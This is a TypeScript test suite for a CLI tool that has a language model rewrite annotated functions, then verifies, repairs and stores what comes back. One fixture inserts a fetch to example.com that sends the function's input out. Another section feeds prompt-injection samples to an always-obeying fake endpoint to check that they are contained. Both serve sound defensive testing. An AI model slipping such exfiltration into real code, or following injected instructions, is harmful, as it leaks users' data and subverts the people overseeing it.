/** `poet generate` with a model: a real wire, the real SDK, answers as good and as bad as models write them. */
import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { mkdirSync, symlinkSync } from 'node:fs';
import { join } from 'node:path';
import { tryGenerationLock } from '../transformer/5-store/index.ts';
import { CLI, makeCliProject, packageOf, type CliProject } from './cli-project.ts';
import { startModelServer, type ModelServer, type Reply } from './support/model-server.ts';
import { readInjections } from './support/injections.ts';
import { PLUGIN, REPO } from './support/temp-project.ts';

const SOURCE = `/**
 * The median of a sample.
 * @poet
 */
export function median(xs: readonly number[]): number {
  const sorted = [...xs].sort((a, b) => a - b);
  const middle = Math.floor(sorted.length / 2);
  return sorted.length % 2 === 1 ? sorted[middle]! : (sorted[middle - 1]! + sorted[middle]!) / 2;
}
`;
const TSCONFIG = JSON.stringify({ compilerOptions: { target: 'ES2022', lib: ['ES2022'], module: 'NodeNext', strict: true, outDir: 'dist', rootDir: 'src', skipLibCheck: true, types: [], plugins: [PLUGIN] }, include: ['src'] });

const phases = (body: string, more = ''): string => `export function perceive(xs: readonly number[]): [xs: readonly number[]] {
  return acceptsArguments(xs) ? [xs] : correctArguments(xs);
}

/** Sorts a copy; the middle, or the mean of the two in the middle. */
export function operatePrime(xs: readonly number[]): number {
${body}
}

export function enforce(result: number): number {
  return acceptsResult(result) ? result : refuseResult(explainResult(result));
}
${more}`;
/** Typed arrays sort numbers by themselves, and faster; NaN is last there, which `sort` with a comparison does not promise. */
const GOOD = phases('  const sorted = xs.slice();\n  sorted.sort((a, b) => a - b);\n  const half = sorted.length >> 1;\n  return sorted.length % 2 === 1 ? sorted[half]! : (sorted[half - 1]! + sorted[half]!) / 2;');
const WRONG = phases('  const sorted = [...xs].sort((a, b) => a - b);\n  return sorted[Math.floor(sorted.length / 2)]!;');
const MUTATES = phases('  const sorted = (xs as number[]).sort((a, b) => a - b);\n  const half = sorted.length >> 1;\n  return sorted.length % 2 === 1 ? sorted[half]! : (sorted[half - 1]! + sorted[half]!) / 2;');
const PHONES_HOME = GOOD.replace('const sorted', "void fetch('https://example.com/?' + xs.join());\n  const sorted");

let server: ModelServer;
beforeAll(async () => { server = await startModelServer(); });
afterAll(() => server.close());

function makeProject(provider: 'anthropic' | 'openai-compatible', more: object = {}, files: Readonly<Record<string, string>> = {}): CliProject & { generate(...args: string[]): Asked } {
  const project = makeCliProject({
    'tsconfig.json': TSCONFIG, 'src/stats.ts': SOURCE, ...files,
    'poet.config.json': JSON.stringify({ provider, model: { name: 'fake', baseUrl: `${server.url}/v1`, inputUsdPerMillion: 3, outputUsdPerMillion: 15, ...more } }),
  });
  mkdirSync(join(project.root, 'node_modules/@anthropic-ai'), { recursive: true });
  symlinkSync(join(REPO, 'node_modules/@anthropic-ai/sdk'), join(project.root, 'node_modules/@anthropic-ai/sdk'), 'dir');
  const env = { ANTHROPIC_API_KEY: KEY, ANTHROPIC_BASE_URL: server.url, OPENAI_API_KEY: KEY };
  return {
    ...project,
    generate(...args) {
      const { code, out, err } = project.poetWith(env, 'generate', '--json', ...args);
      if (out === '') throw new Error(err);
      return { code, ...(JSON.parse(out) as Omit<Asked, 'code' | 'err'>), err };
    },
  };
}
const KEY = 'test-key-0123456789-abcdef';

interface Asked {
  readonly code: number | null;
  readonly err: string;
  readonly asked: readonly { readonly id: string; readonly result: string; readonly version?: string; readonly because: readonly string[] }[];
  readonly tokens: { readonly input: number; readonly output: number };
  readonly cost_usd?: number;
  readonly problems: readonly { readonly code: string; readonly text: string }[];
}

const built = (project: CliProject): string => {
  const run = project.tspc('-p', '.');
  expect([run.code, run.err]).toEqual([0, '']);
  return project.read('dist/stats.js');
};

describe.each(['anthropic', 'openai-compatible'] as const)('%s', (provider) => {
  it('writes a version that is proven, stored with what it cost, and emitted by builds that know no model', () => {
    server.script({ code: GOOD });
    const project = makeProject(provider);
    const { code, asked, tokens, cost_usd } = project.generate();
    expect({ code, asked: asked.map(({ result, version, because }) => ({ result, version, because })), tokens, cost_usd }).toEqual({ code: 0, asked: [{ result: 'accepted', version: 'v2', because: [] }], tokens: { input: 1_000, output: 200 }, cost_usd: 0.006 });
    expect(built(project)).toContain('xs.slice()');
    const metadata = JSON.parse(project.read('.poet/src/stats.ts/median/v2/metadata.json')) as Record<string, unknown>;
    expect(metadata).toMatchObject({ provider, model: 'fake-1', prompt_hash: expect.stringMatching(/^[0-9a-f]{64}$/) as string, tokens: { input: 1_000, output: 200 }, cost_usd: 0.006, reason: 'written by fake-1' });
    expect(project.json('check')).toMatchObject({ code: 0 });
    const [request] = server.requests();
    expect([request!.key, request!.stream]).toEqual([`Bearer ${KEY}`, provider === 'anthropic']);
    expect(request!.user).toMatch(/^===== [0-9a-f]{16} source\n/m);
    // The key is nowhere but on the wire.
    expect(Object.values(project.files()).filter((text) => text.includes(KEY))).toEqual([]);
    expect(request!.user + request!.system).not.toContain(KEY);
    project.remove();
  });
});

it('a version that is accepted beside a pinned one does not ship, and is said not to', () => {
  server.script({ code: GOOD });
  const project = makeProject('openai-compatible');
  expect(project.poetWith({}, 'generate', '--provider', 'builtin').code).toBe(0);
  expect(project.json('pin', 'median', 'v1')).toMatchObject({ code: 0, pinned: 'v1' });
  const { err } = project.poetWith({ OPENAI_API_KEY: KEY }, 'generate', 'median');
  expect(err).toContain('src/stats.ts#median: v2 is kept, and does not ship: v1 is pinned. poet pin src/stats.ts#median v2 makes it the one.');
  expect(built(project)).not.toContain('xs.slice()');
  project.poet('pin', 'src/stats.ts#median', 'v2');
  expect(built(project)).toContain('xs.slice()');
  project.remove();
});

describe('repair', () => {
  it.each<[string, Reply, RegExp]>([
    ['another result', { code: WRONG }, /POET404[01] /],
    ['a changed argument', { code: MUTATES }, /POET4020 .*changes the argument xs/],
    ['a capability', { code: PHONES_HOME }, /POET4020 .*fetch/],
    ['a missing phase', { code: GOOD.replace('export function enforce', 'function enforce') }, /POET4004/],
    ['an import', { code: `import fs from 'node:fs';\n${GOOD}` }, /POET4005/],
    ['code that does not parse', { code: GOOD.slice(0, -40) }, /POET4003|POET4004|POET40/],
    ['a wrong type', { code: GOOD.replace('const half = sorted.length >> 1;', 'const half = sorted.length >> 1;\n  const label: string = half;\n  if (label === "") return 0;') }, /POET4011/],
    ['prose without code', { text: 'I would rather talk about the weather.' }, /found neither/],
    ['a block that is cut off', { text: 'Here it is:\n```ts\nexport function perceive(' }, /cut off/],
  ])('is told what was wrong with %s, and mends it', (what, first, reason) => {
    server.script(first, { code: GOOD });
    const project = makeProject('openai-compatible', {}, what === 'a capability' ? { 'tsconfig.json': TSCONFIG.replace('"ES2022"],', '"ES2022","DOM"],') } : {});
    const { asked } = project.generate();
    expect(asked).toEqual([expect.objectContaining({ result: 'accepted', because: [expect.stringMatching(reason)] })]);
    const [, second] = server.requests();
    expect(second!.user).toMatch(reason);
    expect(second!.user.includes('`refused_code`')).toBe(/^===== [0-9a-f]+ refused_code$/m.test(second!.user));
    project.remove();
  });
});

describe('answers around the code', () => {
  it.each<[string, Reply]>([
    ['a fence', { text: `\`\`\`ts\n${GOOD}\`\`\`` }],
    ['prose and a fence', { text: `Sure! I kept the behaviour.\n\n\`\`\`typescript\n${GOOD}\`\`\`\n\nLet me know if you need anything else.` }],
    ['JSON in a fence', { text: `\`\`\`json\n${JSON.stringify({ code: GOOD })}\n\`\`\`` }],
    ['Windows line ends', { code: GOOD.replaceAll('\n', '\r\n') }],
  ])('%s', (_, reply) => {
    server.script(reply);
    const project = makeProject('openai-compatible');
    expect(project.generate().asked).toEqual([expect.objectContaining({ result: 'accepted', because: [] })]);
    project.remove();
  });
});

describe('what goes wrong on the wire', () => {
  const project = (): ReturnType<typeof makeProject> => makeProject('anthropic');
  it.each<[string, readonly Reply[], string, number]>([
    ['429 and retry-after', [{ status: 429, retryAfter: '0.01' }, { code: GOOD }], 'accepted', 2],
    ['429', [{ status: 429 }, { code: GOOD }], 'accepted', 2],
    ['529', [{ status: 529 }, { code: GOOD }], 'accepted', 2],
    ['500', [{ status: 500 }, { code: GOOD }], 'accepted', 2],
    ['a reset in the middle', [{ reset: true, code: GOOD }, { code: GOOD }], 'accepted', 2],
    ['an answer that is cut off', [{ stop: 'max_tokens', code: GOOD }, { code: GOOD }], 'accepted', 2],
    ['401', [{ status: 401 }], 'no answer', 1],
    ['403', [{ status: 403 }], 'no answer', 1],
    ['404', [{ status: 404 }], 'no answer', 1],
    ['400', [{ status: 400 }], 'no answer', 1],
    ['413', [{ status: 413 }], 'no answer', 1],
    ['a refusal', [{ stop: 'refusal', text: 'I cannot.' }], 'no answer', 1],
    ['a wrong answer that stays wrong', [{ code: WRONG }], 'refused', 3],
  ])('%s', (fault, replies, result, requests) => {
    server.script(...replies);
    const own = project();
    const { code, asked, err, problems } = own.generate();
    expect([code, asked[0]!.result, server.requests().length]).toEqual([0, result, requests]);
    expect(problems.map((p) => p.code)).toEqual(result === 'accepted' ? [] : [result === 'refused' ? 'POET8132' : 'POET8133']);
    // Whatever happened, the function has a version that verifies, and the build says nothing.
    expect(built(own)).toContain('median');
    process.stdout.write(`  ${fault.padEnd(34)} ${result.padEnd(9)} ${problems[0]?.text ?? ''}\n`);
    expect(err).not.toContain(KEY);
    own.remove();
  });

  it('no connection', () => {
    const own = makeProject('openai-compatible', { baseUrl: 'http://127.0.0.1:9/v1', retries: 1 });
    const { code, asked, problems } = own.generate();
    expect([code, asked[0]!.result, problems.map((p) => p.code)]).toEqual([0, 'no answer', ['POET8133']]);
    own.remove();
  }, 60_000);
});

describe('limits', () => {
  it('a budget in tokens stops the asking, refused answers included', () => {
    server.script({ code: WRONG });
    const own = makeProject('openai-compatible', { maxTokens: 5_000 });
    expect(own.generate().asked).toEqual([expect.objectContaining({ result: 'no answer', because: [expect.any(String), expect.any(String), 'the budget of 5000 tokens is spent'] })]);
    expect(server.requests()).toHaveLength(2);
    // What refused answers cost is written beside what ships instead.
    expect(own.json<{ tokens: object; cost_usd: number }>('status')).toMatchObject({ tokens: { input: 2_000, output: 400 }, cost_usd: 0.012 });
    own.remove();
  });
  it('a limit in dollars without a price is an error, not a decoration', () => {
    const own = makeCliProject({ 'tsconfig.json': TSCONFIG, 'src/stats.ts': SOURCE, 'poet.config.json': JSON.stringify({ provider: 'openai-compatible', model: { name: 'x', maxCostUsd: 1 } }) });
    expect(own.json('generate')).toMatchObject({ code: 1, problems: [{ code: 'POET8131' }] });
    own.remove();
  });
  it('--dry-run sends nothing and writes nothing', () => {
    server.script({ code: GOOD });
    const own = makeProject('openai-compatible');
    const { out } = own.poet('generate', '--dry-run');
    expect(out).toMatch(/~\d+ +~\d+ +src\/stats\.ts#median/);
    expect([server.requests().length, own.exists('.poet')]).toEqual([0, false]);
    own.remove();
  });
  it.each<[string, object, readonly string[], RegExp]>([
    ['a provider without a model', { provider: 'anthropic' }, [], /no model is pinned/],
    ['another one without a model', { provider: 'builtin' }, ['--provider', 'openai-compatible'], /no model is pinned/],
    ['no provider of that name', { model: { name: 'x' } }, ['--provider', 'antrophic'], /there is no such provider/],
    ['a limit without a price', { provider: 'openai-compatible', model: { name: 'x' } }, ['--max-cost-usd', '1'], /needs prices/],
  ])('--dry-run refuses what the run would: %s', (_, config, args, why) => {
    const own = makeCliProject({ 'tsconfig.json': TSCONFIG, 'src/stats.ts': SOURCE, 'poet.config.json': JSON.stringify(config) });
    for (const more of [[], ['--dry-run']]) {
      expect(own.json('generate', ...args, ...more)).toMatchObject({ code: 1, problems: [{ code: 'POET8131', text: expect.stringMatching(why) }] });
    }
    own.remove();
  });
  it('--dry-run takes no price of a model that another vendor serves', () => {
    const own = makeCliProject({ 'tsconfig.json': TSCONFIG, 'src/stats.ts': SOURCE, 'poet.config.json': JSON.stringify({ provider: 'openai-compatible', model: { name: 'claude-sonnet-5-5' } }) });
    const { code, cost_usd, provider, model } = own.json<{ cost_usd?: number; provider: string; model: string }>('generate', '--dry-run');
    expect({ code, cost_usd, provider, model }).toEqual({ code: 0, cost_usd: undefined, provider: 'openai-compatible', model: 'claude-sonnet-5-5' });
    own.remove();
  });
  it('under CI nobody is asked', () => {
    server.script({ code: GOOD });
    const own = makeProject('openai-compatible');
    expect(own.poetWith({ CI: 'true' }, 'generate').code).toBe(0);
    expect([server.requests().length, own.exists('.poet/src/stats.ts/median/v1')]).toEqual([0, true]);
    own.remove();
  });
  it('a source that holds a secret is not sent', () => {
    server.script({ code: GOOD });
    const own = makeProject('openai-compatible', {}, { 'src/stats.ts': SOURCE.replace('const sorted', "const key = 'sk-ant-api03-0123456789abcdefghijklmnop'; void key;\n  const sorted") });
    const { asked, problems } = own.generate();
    expect(problems.map((p) => p.code)).toEqual(['POET8134']);
    expect(asked).toEqual([expect.objectContaining({ result: 'not asked', because: [expect.stringMatching(/looks like an API key/)] })]);
    expect(server.requests()).toEqual([]);
    own.remove();
  });
  it('a model that answers with what is there is paid once, and its version says so', () => {
    server.script({ code: GOOD });
    const own = makeProject('openai-compatible');
    own.generate();
    const [request] = server.requests();
    const baseline = /^===== ([0-9a-f]+) baseline\n([^]*?)\n===== \1 end$/m.exec(request!.user)![2]!;
    const other = makeProject('openai-compatible');
    server.script({ code: WRONG });
    other.generate();
    server.script({ code: `${baseline}\n` });
    expect(other.generate().asked).toEqual([expect.objectContaining({ result: 'accepted', version: 'v1' })]);
    // What the three refused answers before cost is in it.
    expect(JSON.parse(other.read('.poet/src/stats.ts/median/v1/metadata.json'))).toMatchObject({ provider: 'builtin', model: 'fake-1', tokens: { input: 4_000, output: 800 }, cost_usd: 0.024 });
    expect([other.generate().asked, server.requests().length, other.poet('check').code]).toEqual([[], 1, 0]);
    own.remove();
    other.remove();
  });
  it('one answer that is cut off says nothing about the next function', () => {
    const cut = { stop: 'max_tokens', code: GOOD } as const;
    server.scriptEach({ median: [cut], middle: [{ code: GOOD }] });
    const own = makeProject('openai-compatible', { concurrency: 1, retries: 0 }, { 'src/stats.ts': `${SOURCE}\n${SOURCE.replace('function median', 'function middle')}` });
    expect(own.generate().asked.map(({ id, result }) => [id, result])).toEqual([['src/stats.ts#median', 'no answer'], ['src/stats.ts#middle', 'accepted']]);
    own.remove();
  });
  it('a version of a model is not asked for again, unless that is wanted', () => {
    server.script({ code: GOOD });
    const own = makeProject('openai-compatible');
    own.generate();
    expect(own.generate().asked).toEqual([]);
    expect(own.generate('--force').asked).toHaveLength(1);
    own.remove();
  });
});

describe('packages of a solution', () => {
  function inPackages(...names: readonly string[]): ReturnType<typeof makeProject> {
    const own = makeProject('openai-compatible', {}, { 'tsconfig.json': JSON.stringify({ files: [], references: names.map((name) => ({ path: `packages/${name}` })) }) });
    for (const name of names) {
      for (const [file, text] of Object.entries(packageOf(`packages/${name}`, SOURCE))) own.write(file, text);
      // Its own project: without one, the configuration at the top makes all packages one.
      own.copy(join(own.root, 'poet.config.json'), `packages/${name}/poet.config.json`);
    }
    return own;
  }

  it('are each asked for, also where their functions have the same name', () => {
    server.script({ code: GOOD });
    const own = inPackages('a', 'b');
    expect(own.generate().asked.map(({ result }) => result)).toEqual(['accepted', 'accepted']);
    expect([own.exists('packages/a/.poet/src/stats.ts/median/v2'), own.exists('packages/b/.poet/src/stats.ts/median/v2')]).toEqual([true, true]);
    expect(own.generate().asked).toEqual([]);
    own.remove();
  });

  it('wait for whoever asks for one of them', async () => {
    server.script({ code: GOOD });
    const own = inPackages('a', 'b');
    const lock = tryGenerationLock(join(own.root, 'packages/b'));
    if (!('release' in lock)) throw new Error('nobody else is here');
    const child = spawn(process.execPath, [CLI, 'generate'], { cwd: own.root, env: { ...process.env, CI: '', NODE_OPTIONS: '', OPENAI_API_KEY: KEY, POET_CACHE_DIR: join(own.root, 'node_modules/.cache-poetc') } });
    const ended = once(child, 'close');
    let requestsWhileHeld: number | undefined;
    let said = '';
    child.stderr.on('data', (text: Buffer) => {
      said += text.toString();
      if (requestsWhileHeld !== undefined || !said.includes(`process ${process.pid} asks a model`)) return;
      requestsWhileHeld = server.requests().length;
      lock.release();
    });
    expect([await ended, requestsWhileHeld, server.requests().length]).toEqual([[0, null], 0, 2]);
    // All of them can be had again.
    for (const each of ['a', 'b']) {
      const again = tryGenerationLock(join(own.root, 'packages', each));
      expect(again).toHaveProperty('release');
      if ('release' in again) again.release();
    }
    own.remove();
  });
});

describe('an endpoint that always obeys what stands in the source', () => {
  const items = readInjections();

  it('gets nothing emitted, and cannot close the fence', () => {
    const sources = Object.fromEntries(items.map(({ id, source }) => [`src/${id}.ts`, source.replace(/export (?:async )?function/, (found) => `/** @poet */\n${found}`)]));
    const own = makeProject('openai-compatible', {}, sources);
    server.script({ code: items[0]!.attack.code });
    const { asked } = own.generate();
    const ofItems = asked.filter(({ id }) => items.some((item) => id.startsWith(`src/${item.id}.ts`)));
    expect(ofItems.length).toBeGreaterThanOrEqual(items.length - 2);
    expect(ofItems.filter(({ result }) => result === 'accepted')).toEqual([]);
    const systems = new Set(server.requests().map(({ system }) => system));
    expect(systems.size).toBe(1);
    for (const { user } of server.requests()) {
      const mark = /^===== ([0-9a-f]{16}) /m.exec(user)![1]!;
      const names = [...user.matchAll(new RegExp(`^===== ${mark} (\\w+)$`, 'gm'))].map(([, name]) => name);
      // Every block ends before the next one begins: no text in one of them closed it.
      expect(names.filter((_, i) => i % 2 === 1).every((name) => name === 'end')).toBe(true);
    }
    own.tspc('-p', '.');
    for (const { id, canary } of items) {
      const emitted = own.read(`dist/${id}.js`);
      const author = own.read(`src/${id}.ts`);
      if (!new RegExp(canary).test(author)) expect(emitted).not.toMatch(new RegExp(canary));
    }
    own.remove();
  }, 300_000);
});

it('a table above the function takes nothing of its place in the prompt', () => {
  const table = Array.from({ length: 4_000 }, (_, i) => `${i}.5`).join(', ');
  const own = makeProject('openai-compatible', {}, { 'src/stats.ts': `const TABLE = [${table}];\n${SOURCE.replace('const middle', 'if (sorted.length > 1e6) return TABLE[0]!;\n  const middle')}` });
  const { out } = own.poet('show', '--prompt', 'median');
  expect(out).toMatch(/^const TABLE = \[0\.5, .*\n\/\/ … cut$/m);
  expect(/^===== ([0-9a-f]+) source\n([^]*?)\n===== \1 end$/m.exec(out)![2]).toContain('return TABLE[0]!;');
  own.remove();
});

it('the line that shows how far a run is fits on the screen', () => {
  server.script({ code: GOOD });
  const own = makeProject('openai-compatible', { name: 'a-model-whose-name-is-'.repeat(6) });
  const { code, screen } = own.onTerminal(['generate'], '', { OPENAI_API_KEY: KEY });
  const lines = screen.split('\r\u001b[2K').filter((text) => text.startsWith('poetc: ') && !text.includes('\n'));
  expect([code, lines.length > 0, lines.filter((line) => line.length > 79)]).toEqual([0, true, []]);
  own.remove();
});

it('poet show --prompt prints exactly what is sent', () => {
  server.script({ code: GOOD });
  const own = makeProject('openai-compatible');
  own.poet('generate', '--provider', 'builtin');
  const shown = own.json<{ system: string; user: string }>('show', '--prompt', 'median');
  own.generate();
  const [request] = server.requests();
  expect([shown.system, shown.user]).toEqual([request!.system, request!.user]);
  own.remove();
});
